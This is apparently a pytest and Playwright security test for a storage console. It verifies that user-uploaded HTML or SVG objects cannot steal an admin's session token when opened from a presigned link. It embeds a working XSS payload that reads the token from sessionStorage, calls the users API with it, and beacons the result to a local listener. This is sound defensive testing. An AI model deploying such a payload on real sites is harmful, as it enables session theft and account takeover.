"""An uploaded page cannot act as the console (issue 23, finding 1), shown in Chromium.

The attack: an admin signed in to the console opens, in the same tab, a presigned link to
another user's ``.html`` (or ``.svg``) object. Its script tries to read the console's token
from ``sessionStorage``, to call ``GET /api/v1/users`` with it, and reports what it got to a
listener of the test's own (a beacon to another port). Served as ``attachment`` the page never
renders; and should a browser render it anyway, ``Content-Security-Policy: sandbox`` runs no
script in it and gives it an origin of its own, away from the console's storage: the second test
strips ``Content-Disposition`` on the way to show that layer alone (the page renders, its
script never runs), and the last strips both headers to show that the instrument works (the
attack then succeeds and its report arrives).
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, Route

from tests.http.identitykit import Account, create_account
from tests.serverproc import ServerProcess, free_port

ATTACK_JS = """
(async () => {
  let stolen = "none", status = "none";
  try { stolen = sessionStorage.getItem("console.session") || "empty"; }
  catch (error) { stolen = "error:" + error.name; }
  let token = null;
  try { token = JSON.parse(stolen).token; } catch (error) { token = null; }
  try {
    const headers = token ? { Authorization: "Bearer " + token } : {};
    const answer = await fetch("/api/v1/users", { headers });
    status = String(answer.status);
  } catch (error) { status = "error:" + error.name; }
  const report = "stolen=" + encodeURIComponent(stolen) + "&status=" + encodeURIComponent(status);
  document.documentElement.setAttribute("data-report", report);
  new Image().src = "http://127.0.0.1:LEAK_PORT/leak?" + report;
})();
"""
PAGES = {
    "evil.html": (
        "text/html; charset=utf-8",
        "<!doctype html><title>cats</title><p>cats</p><script>" + ATTACK_JS + "</script>",
    ),
    "evil.svg": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        "<script><![CDATA[" + ATTACK_JS + "]]></script></svg>",
    ),
}


class Beacons:
    """A listener on another port that records what attack scripts report."""

    def __init__(self) -> None:
        self.port = free_port()
        self.hits: list[dict[str, str]] = []
        beacons = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                query = parse_qs(urlsplit(self.path).query)
                beacons.hits.append({name: values[0] for name, values in query.items()})
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def beacons() -> Iterator[Beacons]:
    listener = Beacons()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def mallory_links(
    admin_api: httpx.Client, console_server: ServerProcess, beacons: Beacons
) -> dict[str, str]:
    """Presigned GET links to mallory's attack pages."""
    mallory: Account = create_account(admin_api, prefix="mallory")
    links = {}
    with mallory.client(console_server) as client:
        assert client.post("/buckets", json={"name": "mallory-pages"}).status_code == 201
        for name, (content_type, text) in PAGES.items():
            body = text.replace("LEAK_PORT", str(beacons.port)).encode()
            stored = client.put(
                f"/buckets/mallory-pages/objects/{name}",
                content=body,
                headers={"Content-Type": content_type},
            )
            assert stored.status_code == 200, stored.text
            signed = client.post(
                "/presign", json={"bucket": "mallory-pages", "key": name, "method": "GET"}
            )
            assert signed.status_code == 200, signed.text
            links[name] = signed.json()["url"]
    return links


def reports_seen(page: Page, beacons: Beacons, before: int) -> list[dict[str, str]]:
    """What attack scripts reported since ``before`` beacons: by beacon, and in the document
    now in the tab (a beacon from a page Playwright served itself may be refused by
    Chromium's local-network checks; the document's own mark is not)."""
    reports = list(beacons.hits[before:])
    mark = page.evaluate("() => document.documentElement.getAttribute('data-report')")
    if mark:
        reports.append({name: values[0] for name, values in parse_qs(mark).items()})
    return reports


def wait_for_reports(
    page: Page, beacons: Beacons, before: int, seconds: float
) -> list[dict[str, str]]:
    deadline = time.monotonic() + seconds
    while not reports_seen(page, beacons, before) and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    return reports_seen(page, beacons, before)


def console_token(page: Page) -> str:
    session = page.evaluate("() => sessionStorage.getItem('console.session')")
    assert session, "the console is not signed in"
    return str(json.loads(session)["token"])


def open_in_this_tab(page: Page, url: str) -> None:
    """Navigate as a click on the link would; a download ends the navigation."""
    try:
        page.goto(url)
    except PlaywrightError as error:
        assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error), error


@pytest.mark.parametrize("name", sorted(PAGES))
def test_an_uploaded_page_opened_in_the_console_tab_cannot_act_as_the_console(
    admin_page: Page, mallory_links: dict[str, str], beacons: Beacons, name: str
) -> None:
    token = console_token(admin_page)
    before = len(beacons.hits)
    open_in_this_tab(admin_page, mallory_links[name])
    reports = wait_for_reports(admin_page, beacons, before, 3.0)
    assert not any(token in hit.get("stolen", "") for hit in reports), reports
    assert not any(hit.get("status") == "200" for hit in reports), reports


def strip_headers(page: Page, url: str, names: set[str]) -> None:
    """Serve ``url`` to ``page`` without the headers ``names`` (as a careless proxy might)."""

    def without(route: Route) -> None:
        answer = route.fetch()
        headers = {key: value for key, value in answer.headers.items() if key.lower() not in names}
        route.fulfill(response=answer, headers=headers)

    page.route(lambda address: address == url, without)


@pytest.mark.parametrize("name", sorted(PAGES))
def test_the_sandbox_alone_keeps_a_rendered_page_from_running(
    admin_page: Page, mallory_links: dict[str, str], beacons: Beacons, name: str
) -> None:
    """Without ``Content-Disposition`` the page renders in the tab, and its script does not
    run: the sandbox allows no scripts (nor storage, nor same-origin requests)."""
    console_token(admin_page)
    strip_headers(admin_page, mallory_links[name], {"content-disposition"})
    before = len(beacons.hits)
    open_in_this_tab(admin_page, mallory_links[name])
    assert admin_page.url == mallory_links[name]  # it did render in the tab
    shown = admin_page.evaluate("() => document.documentElement.localName")
    assert shown == ("svg" if name.endswith(".svg") else "html")
    assert wait_for_reports(admin_page, beacons, before, 3.0) == []
    assert not admin_page.evaluate("() => window.origin === location.origin"), (
        "the rendered page shares the console's origin"
    )


@pytest.mark.parametrize("name", sorted(PAGES))
def test_without_those_headers_the_page_would_act_as_the_console(
    admin_page: Page, mallory_links: dict[str, str], beacons: Beacons, name: str
) -> None:
    """The instrument itself: with the sandbox and the attachment stripped on the way, the
    attack of the issue works and the listener sees the stolen token, so the tests above
    would see it too."""
    token = console_token(admin_page)
    strip_headers(
        admin_page, mallory_links[name], {"content-disposition", "content-security-policy"}
    )
    before = len(beacons.hits)
    open_in_this_tab(admin_page, mallory_links[name])
    reports = wait_for_reports(admin_page, beacons, before, 15.0)
    assert reports and token in reports[0]["stolen"] and reports[0]["status"] == "200", reports
